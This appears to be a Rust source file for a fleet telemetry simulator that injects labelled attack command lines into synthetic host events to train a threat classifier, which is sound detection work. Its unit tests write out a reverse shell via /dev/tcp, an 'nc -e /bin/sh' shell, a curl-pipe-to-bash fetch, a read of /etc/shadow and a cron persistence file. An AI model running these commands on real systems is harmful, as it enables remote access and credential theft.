@@ -1,0 +1,1066 @@
+//! The fleet simulator: realistic, labelled telemetry for load tests and for
+//! training the threat classifier.
+//!
+//! A fleet is `hosts` hosts running `workloads` workloads of four kinds (web
+//! servers, databases, CI runners, batch/cron hosts). Each workload has its
+//! daemons' routine (nginx workers and reloads, postgres maintenance, CI
+//! builds, cron jobs), an administrator's repertoire of real command lines
+//! from `data/benign_commands.jsonl`, and now and then a command it never ran
+//! before. Attacks from `data/attacks_train.jsonl` are injected at a chosen
+//! rate into a plausible context (remote code execution under a web server,
+//! an interactive ssh session, cron persistence, a compromised CI job), and
+//! every command becomes the exec, connect and open events it would cause.
+//! Each event carries its label (malicious, ATT&CK tactic and technique).
+//! Everything is deterministic from the seed.
+
+use std::collections::VecDeque;
+use std::path::Path;
+
+use outlier_common::json::JsonEvent;
+use serde::{Deserialize, Serialize};
+
+/// Ground truth of one event.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct Label {
+    pub malicious: bool,
+    /// MITRE ATT&CK tactic (e.g. `execution`, `credential-access`).
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub tactic: String,
+    /// MITRE ATT&CK technique (e.g. `T1059.004`).
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub technique: String,
+    /// The attack (corpus record) the event belongs to.
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub attack_id: String,
+    /// Where the attack was injected (`web-rce`, `ssh-session`, `cron`, `ci-job`)
+    /// or, for benign events, the activity.
+    pub context: String,
+}
+
+/// An event with its label: one JSON Lines v1 object with a `label` field
+/// (which replay ignores).
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct LabeledEvent {
+    #[serde(flatten)]
+    pub event: JsonEvent,
+    pub label: Label,
+}
+
+/// One attack of the corpus.
+#[derive(Debug, Clone, Deserialize)]
+pub struct Attack {
+    pub id: String,
+    #[serde(default)]
+    pub name: String,
+    #[serde(default)]
+    pub technique: String,
+    /// ATT&CK tactic (Atomic Red Team) or GTFOBins function.
+    #[serde(default)]
+    pub tactic: String,
+    #[serde(default)]
+    pub elevated: bool,
+    pub commands: Vec<String>,
+}
+
+/// The training corpora.
+#[derive(Debug, Clone)]
+pub struct Corpus {
+    pub benign: Vec<String>,
+    pub attacks: Vec<Attack>,
+}
+
+impl Corpus {
+    /// Loads `benign_commands.jsonl` and `attacks_train.jsonl` from `dir`.
+    pub fn load(dir: &Path) -> std::io::Result<Self> {
+        #[derive(Deserialize)]
+        struct B {
+            command: String,
+        }
+        let benign = std::fs::read_to_string(dir.join("benign_commands.jsonl"))?
+            .lines()
+            .filter_map(|l| serde_json::from_str::<B>(l).ok())
+            .map(|b| b.command)
+            .filter(|c| !c.trim().is_empty())
+            .collect();
+        let attacks = std::fs::read_to_string(dir.join("attacks_train.jsonl"))?
+            .lines()
+            .filter_map(|l| serde_json::from_str::<Attack>(l).ok())
+            .filter(|a| !a.commands.is_empty())
+            .collect();
+        Ok(Self { benign, attacks })
+    }
+}
+
+/// Maps a corpus tactic or GTFOBins function to an ATT&CK tactic.
+pub fn attack_tactic(a: &Attack) -> &'static str {
+    match a.tactic.as_str() {
+        "shell" | "command" | "inherit" | "execution" => "execution",
+        "file-read" | "collection" => "collection",
+        "file-write" => "persistence",
+        "upload" | "exfiltration" => "exfiltration",
+        "download" => "command-and-control",
+        "reverse-shell" | "bind-shell" | "command-and-control" => "command-and-control",
+        "privilege-escalation" => "privilege-escalation",
+        "library-load" | "stealth" | "defense-impairment" | "defense-evasion" => "defense-evasion",
+        "credential-access" => "credential-access",
+        "discovery" => "discovery",
+        "impact" => "impact",
+        "initial-access" => "initial-access",
+        "persistence" => "persistence",
+        _ if a.elevated => "privilege-escalation",
+        _ => "execution",
+    }
+}
+
+/// Chooses which attacks of the corpus a simulation may inject.
+pub type AttackFilter = std::sync::Arc<dyn Fn(&Attack) -> bool + Send + Sync>;
+
+/// Simulator settings.
+#[derive(Clone)]
+pub struct SimConfig {
+    pub seed: u64,
+    pub org: String,
+    pub hosts: usize,
+    pub workloads: usize,
+    /// Fraction of activities that are attacks (0.001 = one in a thousand).
+    pub attack_rate: f64,
+    /// Timestamp of the first event, ns.
+    pub start_ns: u64,
+    /// Simulated time between activities, ns.
+    pub step_ns: u64,
+    /// Prefix of event ids.
+    pub id_prefix: String,
+    /// Use only attacks whose index satisfies this (train/validation splits
+    /// by technique are made by the caller).
+    pub attack_filter: Option<AttackFilter>,
+}
+
+impl std::fmt::Debug for SimConfig {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("SimConfig")
+            .field("seed", &self.seed)
+            .field("org", &self.org)
+            .field("hosts", &self.hosts)
+            .field("workloads", &self.workloads)
+            .field("attack_rate", &self.attack_rate)
+            .finish_non_exhaustive()
+    }
+}
+
+impl Default for SimConfig {
+    fn default() -> Self {
+        Self {
+            seed: 1,
+            org: "sim".into(),
+            hosts: 20,
+            workloads: 8,
+            attack_rate: 0.002,
+            start_ns: 1_800_000_000_000_000_000,
+            step_ns: 50_000_000,
+            id_prefix: "sim".into(),
+            attack_filter: None,
+        }
+    }
+}
+
+/// A small deterministic generator (xorshift64*).
+#[derive(Debug, Clone)]
+pub struct Rng(u64);
+
+impl Rng {
+    pub fn new(seed: u64) -> Self {
+        Self(
+            seed.wrapping_mul(0x9E37_79B9_7F4A_7C15)
+                .wrapping_add(0x2545_F491_4F6C_DD1D)
+                | 1,
+        )
+    }
+    pub fn next_u64(&mut self) -> u64 {
+        self.0 ^= self.0 >> 12;
+        self.0 ^= self.0 << 25;
+        self.0 ^= self.0 >> 27;
+        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
+    }
+    pub fn below(&mut self, n: usize) -> usize {
+        (self.next_u64() % n.max(1) as u64) as usize
+    }
+    pub fn chance(&mut self, p: f64) -> bool {
+        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64 <= p
+    }
+    pub fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
+        &xs[self.below(xs.len())]
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    Web,
+    Db,
+    Ci,
+    Batch,
+}
+
+#[derive(Debug, Clone)]
+struct Workload {
+    name: String,
+    kind: Kind,
+    hosts: Vec<String>,
+    /// The administrators' usual commands (indices into the benign corpus).
+    repertoire: Vec<usize>,
+}
+
+/// Who runs a command: the process that starts it and as whom.
+#[derive(Debug, Clone)]
+struct Ctx {
+    parent: &'static str,
+    uid: u32,
+    cwd: &'static str,
+    context: &'static str,
+}
+
+pub struct Simulator {
+    cfg: SimConfig,
+    rng: Rng,
+    corpus: std::sync::Arc<Corpus>,
+    attacks: Vec<usize>,
+    workloads: Vec<Workload>,
+    queue: VecDeque<LabeledEvent>,
+    seq: u64,
+    t_ns: u64,
+}
+
+impl Simulator {
+    pub fn new(cfg: SimConfig, corpus: std::sync::Arc<Corpus>) -> Self {
+        let mut rng = Rng::new(cfg.seed);
+        let kinds = [Kind::Web, Kind::Db, Kind::Ci, Kind::Batch];
+        let workloads = (0..cfg.workloads.max(1))
+            .map(|w| {
+                let kind = kinds[w % kinds.len()];
+                let name = format!(
+                    "{}-{w}",
+                    match kind {
+                        Kind::Web => "web",
+                        Kind::Db => "db",
+                        Kind::Ci => "ci",
+                        Kind::Batch => "batch",
+                    }
+                );
+                let hosts = (0..cfg.hosts.max(1))
+                    .filter(|h| {
+                        h % cfg.workloads.max(1) == w % cfg.hosts.max(1)
+                            || cfg.hosts < cfg.workloads
+                    })
+                    .take(8)
+                    .map(|h| format!("host-{h}"))
+                    .collect::<Vec<_>>();
+                let hosts = if hosts.is_empty() {
+                    vec![format!("host-{}", w % cfg.hosts.max(1))]
+                } else {
+                    hosts
+                };
+                let size = 20 + rng.below(60);
+                let repertoire = (0..size).map(|_| rng.below(corpus.benign.len())).collect();
+                Workload {
+                    name,
+                    kind,
+                    hosts,
+                    repertoire,
+                }
+            })
+            .collect();
+        let attacks = (0..corpus.attacks.len())
+            .filter(|&i| {
+                cfg.attack_filter
+                    .as_ref()
+                    .is_none_or(|f| f(&corpus.attacks[i]))
+            })
+            .collect();
+        let t_ns = cfg.start_ns;
+        Self {
+            cfg,
+            rng,
+            corpus,
+            attacks,
+            workloads,
+            queue: VecDeque::new(),
+            seq: 0,
+            t_ns,
+        }
+    }
+
+    fn emit(&mut self, wl: usize, host: &str, mut e: JsonEvent, label: Label) {
+        self.seq += 1;
+        e.event_id = Some(format!("{}-{}", self.cfg.id_prefix, self.seq));
+        e.ts_ns = Some(self.t_ns + self.queue.len() as u64 * 1_000);
+        e.org = Some(self.cfg.org.clone());
+        e.workload = Some(self.workloads[wl].name.clone());
+        e.host = Some(host.to_string());
+        self.queue.push_back(LabeledEvent { event: e, label });
+    }
+
+    fn exec(
+        &mut self,
+        wl: usize,
+        host: &str,
+        ctx: &Ctx,
+        comm: &str,
+        argv: Vec<String>,
+        label: &Label,
+    ) {
+        let pid = 1000 + self.rng.below(60000) as u32;
+        let e = JsonEvent {
+            kind: Some("exec".into()),
+            pid: Some(pid),
+            ppid: Some(pid.saturating_sub(1 + self.rng.below(50) as u32)),
+            uid: Some(ctx.uid),
+            gid: Some(ctx.uid),
+            comm: Some(comm.chars().take(15).collect()),
+            parent_comm: Some(ctx.parent.to_string()),
+            exe: Some(format!("/usr/bin/{comm}")),
+            argv: Some(argv),
+            cwd: Some(ctx.cwd.to_string()),
+            ..JsonEvent::default()
+        };
+        self.emit(wl, host, e, label.clone());
+    }
+
+    #[allow(clippy::too_many_arguments)]
+    fn connect(
+        &mut self,
+        wl: usize,
+        host: &str,
+        ctx: &Ctx,
+        comm: &str,
+        ip: String,
+        port: u32,
+        label: &Label,
+    ) {
+        let e = JsonEvent {
+            kind: Some("connect".into()),
+            pid: Some(1000 + self.rng.below(60000) as u32),
+            uid: Some(ctx.uid),
+            comm: Some(comm.chars().take(15).collect()),
+            parent_comm: Some(ctx.parent.to_string()),
+            remote_ip: Some(ip),
+            remote_port: Some(port),
+            local_port: Some(32768 + self.rng.below(28000) as u32),
+            protocol: Some("tcp".into()),
+            ..JsonEvent::default()
+        };
+        self.emit(wl, host, e, label.clone());
+    }
+
+    #[allow(clippy::too_many_arguments)]
+    fn open(
+        &mut self,
+        wl: usize,
+        host: &str,
+        ctx: &Ctx,
+        comm: &str,
+        path: String,
+        flags: u32,
+        label: &Label,
+    ) {
+        let e = JsonEvent {
+            kind: Some("open".into()),
+            pid: Some(1000 + self.rng.below(60000) as u32),
+            uid: Some(ctx.uid),
+            comm: Some(comm.chars().take(15).collect()),
+            parent_comm: Some(ctx.parent.to_string()),
+            path: Some(path),
+            flags: Some(flags),
+            ..JsonEvent::default()
+        };
+        self.emit(wl, host, e, label.clone());
+    }
+
+    /// Emits the events one shell command line causes: an exec per program
+    /// of the pipeline (under a shell when there are several), a connect per
+    /// address it names, an open per sensitive file it reads or any file it
+    /// writes.
+    fn command(&mut self, wl: usize, host: &str, ctx: &Ctx, cmdline: &str, label: &Label) {
+        let segments = split_pipeline(cmdline);
+        let multi = segments.len() > 1;
+        if multi {
+            self.exec(
+                wl,
+                host,
+                ctx,
+                "sh",
+                vec!["sh".into(), "-c".into(), cmdline.to_string()],
+                label,
+            );
+        }
+        for seg in &segments {
+            let words = shell_words(seg);
+            let Some(prog) = words.first() else { continue };
+            let comm = prog.rsplit('/').next().unwrap_or(prog).to_string();
+            let child = Ctx {
+                parent: if multi { "sh" } else { ctx.parent },
+                ..ctx.clone()
+            };
+            self.exec(wl, host, &child, &comm, words.clone(), label);
+            for (ip, port) in addresses(&words) {
+                self.connect(wl, host, &child, &comm, ip, port, label);
+            }
+            for (path, write) in files(&words) {
+                let flags = if write { 0o1101 } else { 0 };
+                self.open(wl, host, &child, &comm, path, flags, label);
+            }
+        }
+    }
+
+    fn benign(&mut self) {
+        let wl = self.rng.below(self.workloads.len());
+        let w = self.workloads[wl].clone();
+        let host = self.rng.pick(&w.hosts).clone();
+        let label = |context: &str| Label {
+            context: context.into(),
+            ..Label::default()
+        };
+        let admin = Ctx {
+            parent: "bash",
+            uid: 1000,
+            cwd: "/home/admin",
+            context: "admin",
+        };
+        let r = self.rng.below(100);
+        let x = self.rng.below(1000);
+        // Now and then an administrator runs something new to the workload.
+        if r < 2 {
+            let cmd = self.rng.pick(&self.corpus.benign).clone();
+            self.command(wl, &host, &admin, &cmd, &label("novel-admin"));
+            return;
+        }
+        if r < 12 {
+            let i = *self.rng.pick(&w.repertoire);
+            let cmd = self.corpus.benign[i].clone();
+            let ctx = if w.kind == Kind::Batch {
+                Ctx {
+                    parent: "cron",
+                    uid: 0,
+                    cwd: "/",
+                    context: "cron",
+                }
+            } else {
+                admin
+            };
+            self.command(wl, &host, &ctx, &cmd, &label("admin"));
+            return;
+        }
+        let svc = |parent: &'static str, uid: u32, cwd: &'static str| Ctx {
+            parent,
+            uid,
+            cwd,
+            context: "daemon",
+        };
+        let l = label("daemon");
+        match w.kind {
+            Kind::Web => match r {
+                12..=44 => self.exec(
+                    wl,
+                    &host,
+                    &svc("nginx", 33, "/"),
+                    "nginx",
+                    vec!["nginx: worker process".into()],
+                    &l,
+                ),
+                45..=47 => self.exec(
+                    wl,
+                    &host,
+                    &svc("systemd", 0, "/"),
+                    "nginx",
+                    argv("/usr/sbin/nginx -s reload"),
+                    &l,
+                ),
+                48..=62 => self.connect(
+                    wl,
+                    &host,
+                    &svc("php-fpm8.2", 33, "/"),
+                    "php-fpm8.2",
+                    "10.0.1.5".into(),
+                    5432,
+                    &l,
+                ),
+                63..=70 => self.exec(
+                    wl,
+                    &host,
+                    &svc("php-fpm8.2", 33, "/var/www/app"),
+                    "php-fpm8.2",
+                    vec!["php-fpm: pool www".into()],
+                    &l,
+                ),
+                71..=88 => self.open(
+                    wl,
+                    &host,
+                    &svc("nginx", 33, "/"),
+                    "nginx",
+                    "/var/log/nginx/access.log".into(),
+                    0o2101,
+                    &l,
+                ),
+                89..=93 => self.connect(
+                    wl,
+                    &host,
+                    &svc("nginx", 33, "/"),
+                    "nginx",
+                    format!("10.0.2.{}", 10 + x % 4),
+                    8080,
+                    &l,
+                ),
+                94..=96 => self.exec(
+                    wl,
+                    &host,
+                    &svc("cron", 0, "/"),
+                    "logrotate",
+                    argv("/usr/sbin/logrotate /etc/logrotate.conf"),
+                    &l,
+                ),
+                _ => self.exec(
+                    wl,
+                    &host,
+                    &svc("sshd", 1000, "/home/admin"),
+                    "bash",
+                    vec!["-bash".into()],
+                    &l,
+                ),
+            },
+            Kind::Db => match r {
+                12..=50 => self.exec(
+                    wl,
+                    &host,
+                    &svc("postgres", 105, "/var/lib/postgresql/15/main"),
+                    "postgres",
+                    vec!["postgres: autovacuum worker".into()],
+                    &l,
+                ),
+                51..=65 => self.exec(
+                    wl,
+                    &host,
+                    &svc("postgres", 105, "/var/lib/postgresql/15/main"),
+                    "postgres",
+                    vec!["postgres: checkpointer".into()],
+                    &l,
+                ),
+                66..=75 => {
+                    let day = 1 + self.rng.below(28);
+                    self.exec(
+                        wl,
+                        &host,
+                        &svc("cron", 105, "/var/lib/postgresql"),
+                        "pg_dump",
+                        argv(&format!(
+                            "pg_dump -Fc -f /backup/app-202611{day:02}.dump app"
+                        )),
+                        &l,
+                    );
+                    self.open(
+                        wl,
+                        &host,
+                        &svc("cron", 105, "/"),
+                        "pg_dump",
+                        format!("/backup/app-202611{day:02}.dump"),
+                        0o1101,
+                        &l,
+                    );
+                }
+                76..=90 => self.connect(
+                    wl,
+                    &host,
+                    &svc("postgres", 105, "/"),
+                    "postgres",
+                    "10.0.1.6".into(),
+                    5432,
+                    &l,
+                ),
+                _ => self.exec(
+                    wl,
+                    &host,
+                    &svc("sshd", 1000, "/home/admin"),
+                    "bash",
+                    vec!["-bash".into()],
+                    &l,
+                ),
+            },
+            Kind::Ci => {
+                let ci = svc("runner", 1001, "/home/runner/work/app");
+                match r {
+                    12..=60 => {
+                        let cmd = *self.rng.pick(&[
+                            "git fetch --depth=1 origin refs/heads/main",
+                            "cargo build --release --locked",
+                            "cargo test --workspace",
+                            "npm ci --no-audit",
+                            "bash ./scripts/build.sh --release",
+                            "make -j2 all",
+                            "docker build -t app:ci .",
+                        ]);
+                        self.command(wl, &host, &ci, cmd, &l);
+                    }
+                    61..=80 => self.connect(
+                        wl,
+                        &host,
+                        &ci,
+                        "git",
+                        format!("140.82.112.{}", 3 + x % 2),
+                        443,
+                        &l,
+                    ),
+                    81..=90 => {
+                        self.connect(wl, &host, &ci, "cargo", "151.101.2.137".into(), 443, &l)
+                    }
+                    _ => self.open(
+                        wl,
+                        &host,
+                        &ci,
+                        "cc",
+                        format!("/home/runner/work/app/target/obj-{}.o", x % 500),
+                        0o1101,
+                        &l,
+                    ),
+                }
+            }
+            Kind::Batch => {
+                let cron = svc("cron", 0, "/");
+                match r {
+                    12..=50 => self.exec(
+                        wl,
+                        &host,
+                        &cron,
+                        "python3",
+                        argv(&format!("python3 /opt/jobs/report_{}.py", x % 6)),
+                        &l,
+                    ),
+                    51..=70 => self.command(
+                        wl,
+                        &host,
+                        &cron,
+                        "rsync -a /srv/data/ backup.internal:/backups/",
+                        &l,
+                    ),
+                    71..=85 => self.command(wl, &host, &cron, "tar czf /backup/etc.tgz /etc", &l),
+                    _ => self.connect(wl, &host, &cron, "python3", "10.0.3.20".into(), 443, &l),
+                }
+            }
+        }
+    }
+
+    fn attack(&mut self) {
+        if self.attacks.is_empty() {
+            return self.benign();
+        }
+        let a = self.corpus.attacks[*self.rng.pick(&self.attacks)].clone();
+        let tactic = attack_tactic(&a);
+        // A context where such an attack happens, on a workload of that kind.
+        let choice = match tactic {
+            "persistence" if self.rng.chance(0.5) => 2,
+            "execution" | "command-and-control" | "initial-access" if self.rng.chance(0.5) => 0,
+            _ => self.rng.below(4),
+        };
+        let (kind, ctx) = match choice {
+            0 => (
+                Kind::Web,
+                Ctx {
+                    parent: "php-fpm8.2",
+                    uid: 33,
+                    cwd: "/var/www/app",
+                    context: "web-rce",
+                },
+            ),
+            1 => (
+                Kind::Web,
+                Ctx {
+                    parent: "bash",
+                    uid: if a.elevated { 0 } else { 1000 },
+                    cwd: "/home/admin",
+                    context: "ssh-session",
+                },
+            ),
+            2 => (
+                Kind::Batch,
+                Ctx {
+                    parent: "cron",
+                    uid: 0,
+                    cwd: "/",
+                    context: "cron",
+                },
+            ),
+            _ => (
+                Kind::Ci,
+                Ctx {
+                    parent: "bash",
+                    uid: 1001,
+                    cwd: "/home/runner/work/app",
+                    context: "ci-job",
+                },
+            ),
+        };
+        let candidates: Vec<usize> = (0..self.workloads.len())
+            .filter(|&w| self.workloads[w].kind == kind)
+            .collect();
+        let wl = if candidates.is_empty() {
+            self.rng.below(self.workloads.len())
+        } else {
+            *self.rng.pick(&candidates)
+        };
+        let host = self.rng.pick(&self.workloads[wl].hosts.clone()).clone();
+        let label = Label {
+            malicious: true,
+            tactic: tactic.to_string(),
+            technique: a.technique.clone(),
+            attack_id: a.id.clone(),
+            context: ctx.context.to_string(),
+        };
+        // A web exploit starts with the web server spawning a shell.
+        if ctx.context == "web-rce" {
+            self.exec(
+                wl,
+                &host,
+                &ctx,
+                "sh",
+                vec!["sh".into(), "-c".into(), a.commands[0].clone()],
+                &label,
+            );
+        }
+        for cmd in a.commands.iter().take(12) {
+            self.command(wl, &host, &ctx, cmd, &label);
+        }
+    }
+}
+
+impl Iterator for Simulator {
+    type Item = LabeledEvent;
+
+    fn next(&mut self) -> Option<LabeledEvent> {
+        while self.queue.is_empty() {
+            self.t_ns += self.cfg.step_ns;
+            if self.rng.chance(self.cfg.attack_rate) {
+                self.attack();
+            } else {
+                self.benign();
+            }
+        }
+        self.queue.pop_front()
+    }
+}
+
+fn argv(s: &str) -> Vec<String> {
+    shell_words(s)
+}
+
+/// Splits a command line at `|`, `;`, `&&` and `||` outside quotes.
+pub fn split_pipeline(cmd: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let (mut sq, mut dq) = (false, false);
+    let chars: Vec<char> = cmd.chars().collect();
+    let mut i = 0;
+    while i < chars.len() {
+        let c = chars[i];
+        match c {
+            '\'' if !dq => sq = !sq,
+            '"' if !sq => dq = !dq,
+            '|' | ';' | '&' if !sq && !dq => {
+                let next = chars.get(i + 1).copied();
+                // `>&`, `2>&1` and `&>` are redirections, not separators.
+                let prev = if i > 0 { chars[i - 1] } else { ' ' };
+                if c == '&' && (prev == '>' || next == Some('>') || next != Some('&')) {
+                    cur.push(c);
+                    i += 1;
+                    continue;
+                }
+                if !cur.trim().is_empty() {
+                    out.push(cur.trim().to_string());
+                }
+                cur.clear();
+                if next == Some(c) {
+                    i += 1;
+                }
+                i += 1;
+                continue;
+            }
+            _ => {}
+        }
+        cur.push(c);
+        i += 1;
+    }
+    if !cur.trim().is_empty() {
+        out.push(cur.trim().to_string());
+    }
+    out
+}
+
+/// Splits one command into words, honouring quotes (no expansion).
+pub fn shell_words(s: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let (mut sq, mut dq, mut any) = (false, false, false);
+    for c in s.chars() {
+        match c {
+            '\'' if !dq => {
+                sq = !sq;
+                any = true;
+            }
+            '"' if !sq => {
+                dq = !dq;
+                any = true;
+            }
+            c if c.is_whitespace() && !sq && !dq => {
+                if any || !cur.is_empty() {
+                    out.push(std::mem::take(&mut cur));
+                    any = false;
+                }
+            }
+            c => cur.push(c),
+        }
+    }
+    if any || !cur.is_empty() {
+        out.push(cur);
+    }
+    out
+}
+
+/// A stable documentation-range address for a host name.
+fn address_of(host: &str) -> String {
+    let h = xxhash_rust::xxh3::xxh3_64(host.as_bytes());
+    format!("203.0.113.{}", 1 + h % 254)
+}
+
+/// The remote endpoints a command names.
+fn addresses(words: &[String]) -> Vec<(String, u32)> {
+    let mut out = Vec::new();
+    let prog = words
+        .first()
+        .map(|p| p.rsplit('/').next().unwrap_or(p))
+        .unwrap_or("");
+    for (i, w) in words.iter().enumerate() {
+        if let Some(rest) = w
+            .split("/dev/tcp/")
+            .nth(1)
+            .or_else(|| w.split("/dev/udp/").nth(1))
+        {
+            let mut parts = rest.split('/');
+            if let (Some(ip), Some(port)) = (parts.next(), parts.next()) {
+                let port: u32 = port
+                    .chars()
+                    .take_while(char::is_ascii_digit)
+                    .collect::<String>()
+                    .parse()
+                    .unwrap_or(0);
+                if port > 0 {
+                    out.push((
+                        if ip.parse::<std::net::IpAddr>().is_ok() {
+                            ip.to_string()
+                        } else {
+                            address_of(ip)
+                        },
+                        port,
+                    ));
+                }
+            }
+        }
+        for scheme in ["http://", "https://", "ftp://"] {
+            if let Some(rest) = w.find(scheme).map(|p| &w[p + scheme.len()..]) {
+                let hostport = rest.split('/').next().unwrap_or("");
+                let (host, port) = match hostport.rsplit_once(':') {
+                    Some((h, p)) => (h, p.parse().unwrap_or(80)),
+                    None => (
+                        hostport,
+                        if scheme == "https://" {
+                            443
+                        } else if scheme == "ftp://" {
+                            21
+                        } else {
+                            80
+                        },
+                    ),
+                };
+                if !host.is_empty() {
+                    out.push((
+                        if host.parse::<std::net::IpAddr>().is_ok() {
+                            host.to_string()
+                        } else {
+                            address_of(host)
+                        },
+                        port,
+                    ));
+                }
+            }
+        }
+        // nc/ncat/socat HOST PORT
+        if matches!(prog, "nc" | "ncat" | "netcat" | "telnet") && i + 1 < words.len() {
+            let ip_ok = w.parse::<std::net::IpAddr>().is_ok();
+            if ip_ok && let Ok(port) = words[i + 1].parse::<u32>() {
+                out.push((w.clone(), port));
+            }
+        }
+        if matches!(prog, "ssh" | "scp" | "sftp" | "rsync") && w.contains('@') {
+            let host = w
+                .split('@')
+                .nth(1)
+                .unwrap_or("")
+                .split(':')
+                .next()
+                .unwrap_or("");
+            if !host.is_empty() {
+                out.push((
+                    if host.parse::<std::net::IpAddr>().is_ok() {
+                        host.to_string()
+                    } else {
+                        address_of(host)
+                    },
+                    22,
+                ));
+            }
+        }
+    }
+    out.truncate(4);
+    out
+}
+
+/// Paths the collector's open filter would report: any file written (the
+/// target of `>`/`>>`, of `tee`, `cp`, `mv`, `dd of=`) and reads of
+/// sensitive files.
+fn files(words: &[String]) -> Vec<(String, bool)> {
+    const SENSITIVE: [&str; 10] = [
+        "/etc/shadow",
+        "/etc/passwd",
+        "/etc/sudoers",
+        "/.ssh/",
+        "/etc/cron",
+        "/var/spool/cron",
+        "/root/",
+        "/etc/gshadow",
+        "authorized_keys",
+        "/proc/kcore",
+    ];
+    let mut out = Vec::new();
+    let prog = words
+        .first()
+        .map(|p| p.rsplit('/').next().unwrap_or(p))
+        .unwrap_or("");
+    for (i, w) in words.iter().enumerate() {
+        let prev = if i > 0 { words[i - 1].as_str() } else { "" };
+        let path = w
+            .trim_start_matches(['>', '<'])
+            .trim_start_matches("of=")
+            .trim_start_matches("if=");
+        if !(path.starts_with('/') || path.starts_with("~/")) || path.starts_with("/dev/") {
+            continue;
+        }
+        let path = path.replacen("~/", "/root/", 1);
+        let write = w.starts_with('>')
+            || prev == ">"
+            || prev == ">>"
+            || w.starts_with("of=")
+            || (matches!(prog, "tee" | "cp" | "mv" | "install" | "touch") && i == words.len() - 1);
+        let sensitive = SENSITIVE.iter().any(|s| path.contains(s));
+        if write || sensitive {
+            out.push((path, write));
+        }
+    }
+    out.truncate(4);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn corpus() -> std::sync::Arc<Corpus> {
+        std::sync::Arc::new(
+            Corpus::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../data")).unwrap(),
+        )
+    }
+
+    #[test]
+    fn deterministic_from_the_seed() {
+        let c = corpus();
+        let a: Vec<String> = Simulator::new(SimConfig::default(), c.clone())
+            .take(2000)
+            .map(|e| serde_json::to_string(&e).unwrap())
+            .collect();
+        let b: Vec<String> = Simulator::new(SimConfig::default(), c.clone())
+            .take(2000)
+            .map(|e| serde_json::to_string(&e).unwrap())
+            .collect();
+        assert_eq!(a, b);
+        let other: Vec<String> = Simulator::new(
+            SimConfig {
+                seed: 2,
+                ..SimConfig::default()
+            },
+            c,
+        )
+        .take(2000)
+        .map(|e| serde_json::to_string(&e).unwrap())
+        .collect();
+        assert_ne!(a, other);
+    }
+
+    #[test]
+    fn attacks_are_injected_at_the_rate_and_labelled() {
+        let cfg = SimConfig {
+            attack_rate: 0.05,
+            ..SimConfig::default()
+        };
+        let events: Vec<LabeledEvent> = Simulator::new(cfg, corpus()).take(20_000).collect();
+        let malicious: Vec<&LabeledEvent> = events.iter().filter(|e| e.label.malicious).collect();
+        assert!(malicious.len() > 500, "{}", malicious.len());
+        assert!(malicious.len() < 8_000, "{}", malicious.len());
+        assert!(
+            malicious
+                .iter()
+                .all(|e| !e.label.tactic.is_empty() && !e.label.attack_id.is_empty())
+        );
+        for kind in ["exec", "connect", "open"] {
+            assert!(
+                malicious
+                    .iter()
+                    .any(|e| e.event.kind.as_deref() == Some(kind)),
+                "attacks produce {kind} events"
+            );
+        }
+        let contexts: std::collections::HashSet<&str> =
+            malicious.iter().map(|e| e.label.context.as_str()).collect();
+        for c in ["web-rce", "ssh-session", "cron", "ci-job"] {
+            assert!(contexts.contains(c), "{c}");
+        }
+        // Every line is a valid replay event.
+        for e in events.iter().take(2000) {
+            let line = serde_json::to_string(e).unwrap();
+            outlier_common::json::parse_line(&line, 0, || unreachable!()).unwrap();
+        }
+    }
+
+    #[test]
+    fn commands_cause_their_events() {
+        assert_eq!(
+            split_pipeline("curl -fsSL http://x/y.sh | bash"),
+            ["curl -fsSL http://x/y.sh", "bash"]
+        );
+        assert_eq!(
+            split_pipeline("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+            ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
+        );
+        assert_eq!(
+            shell_words(r#"sh -c 'echo "a b"' x"#),
+            ["sh", "-c", r#"echo "a b""#, "x"]
+        );
+        let w = shell_words("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
+        assert_eq!(addresses(&w), [("10.0.0.1".to_string(), 4444)]);
+        assert_eq!(
+            addresses(&shell_words("nc 203.0.113.7 4444 -e /bin/sh")),
+            [("203.0.113.7".to_string(), 4444)]
+        );
+        assert_eq!(
+            files(&shell_words("cat /etc/shadow")),
+            [("/etc/shadow".to_string(), false)]
+        );
+        assert_eq!(
+            files(&shell_words("echo x > /etc/cron.d/evil")),
+            [("/etc/cron.d/evil".to_string(), true)]
+        );
+        assert!(files(&shell_words("ls /var/www")).is_empty());
+    }
+}
